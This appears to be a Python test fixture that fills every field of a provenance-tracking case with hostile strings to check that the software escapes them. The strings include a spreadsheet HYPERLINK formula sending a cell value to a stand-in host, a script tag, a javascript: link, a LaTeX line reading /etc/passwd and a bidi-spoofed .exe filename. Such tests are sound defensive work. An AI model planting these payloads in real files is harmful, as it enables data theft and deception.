"""The story's case with words of an attacker in every place that an article or an analyst fills."""

from dataclasses import replace

from show_story import make_story

from whence.conclusions import Answer, Case, Claim, Hop, OriginCount, Statement
from whence.decisions import Decision
from whence.records import Attribution, Document, Evidence, Profile, Span
from whence.whereabouts import NamedPlace, PlaceName, Where

HOSTILE = {
    "formula": '=HYPERLINK("http://x.example/?"&A1;"look")',
    "markup": "<script>alert('x')</script> & &lt;b> ]]> --> [a](javascript:x) ![i](http://x.example) `c` *d* {{e}}",
    "bidi": "photo \u202egpj.exe\u202c \u2066x\u2069 end",
    "newlines": "one\nER  - \nTY  - JOUR\r\n@article{x,\n  title={y}}\n# head\n[^1]: note\n- item",
    "right to left": "قال המקור: „כן“, وأضاف",
    "controls": "a\x00b\x1b[31m red \x85 c\u2028d",
    "latex": "\\input{/etc/passwd} {open $x_1^2$ 100% #1 ~a & b}}",
    "very long": "long " * 6_000 + "end",
    "quotes": '"a", \'b\'; «c» \\"d\\" \ud7ff \U0001f4f0',
}


def make_hostile(words: str) -> Case:
    """Give the case; the first document, its source, a claim, a report, a place and a decision are of these words."""
    case = make_story()
    document = _poison(case.documents[0], words)
    span = Span(len(case.documents[0].text) + 2, len(document.text))
    said = Attribution(
        id="hostile", document_id=document.id, source=(span,), cue=(), content=(span,), kind="direct",
        stance="asserts", speaker=Profile(kind="person", is_named=True, name=words, role=words, anonymity=words),
    )  # fmt: skip
    reading = replace(case.readings[0], attributions=(said,))
    report = replace(case.trace.reports[0], outlet_name=words)
    weighing = replace(
        case.weighing,
        claims=(_claim(document, span, words), *case.weighing.claims),
        places=(_place(document, span, words),),
    )  # fmt: skip
    return replace(
        case,
        documents=(document, *case.documents[1:]),
        readings=(reading, *case.readings[1:]),
        trace=replace(case.trace, reports=(report, *case.trace.reports[1:])),
        weighing=weighing,
        decisions=(Decision(number=1, kind="note", about="document", value=words, why=words, analyst=words),),
    )


def _poison(document: Document, words: str) -> Document:
    text = f"{document.text}\n\n{words}"
    span = Span(len(document.text) + 2, len(text))
    author = Evidence("author", document.id, None, words)
    return replace(
        document, text=text, headline=span, outlet_name=words, path=words, url=f"http://x.example/{words}",
        authors=(author,),
    )  # fmt: skip


def _claim(document: Document, span: Span, words: str) -> Claim:
    origins = OriginCount(1, 1, 1.0, (words,))
    statements = tuple(
        Statement(
            id=f"hostile {key}", document_id=document.id, spans=(span,), sentence=span, attribution_id="hostile",
            stance="asserts", values=(), origin=key,
            chain=(Hop("document", document.id, words, None), Hop("source", key, words, span)),
        )
        for key in ("person:a", "person:b")
    )  # fmt: skip
    answers = tuple(
        Answer(
            key=key, words=words, value=None, statement_ids=(statement.id,), origins=origins, status="contested",
            ceiling=4, against=(), is_live=True, why=words,
        )
        for key, statement in zip("ab", statements, strict=True)
    )  # fmt: skip
    return Claim(
        id="hostile", slot=words, statements=statements, origins=origins, relations=(), answers=answers,
        status="contested",
    )  # fmt: skip


def _place(document: Document, span: Span, words: str) -> NamedPlace:
    where = Where(
        place_id="1", kind="city", country="XX", division="", latitude=51.5, longitude=-3.25, radius_km=4.0
    )
    return NamedPlace(
        id="place-1", name=words, where=where, probability=0.9, runner_up=words, why=(words,),
        mentions=tuple(
            PlaceName(document_id=document.id, span=span, probability=0.9, is_dateline=is_dateline)
            for is_dateline in (False, True)
        ),
        claim_ids=("hostile",),
    )  # fmt: skip
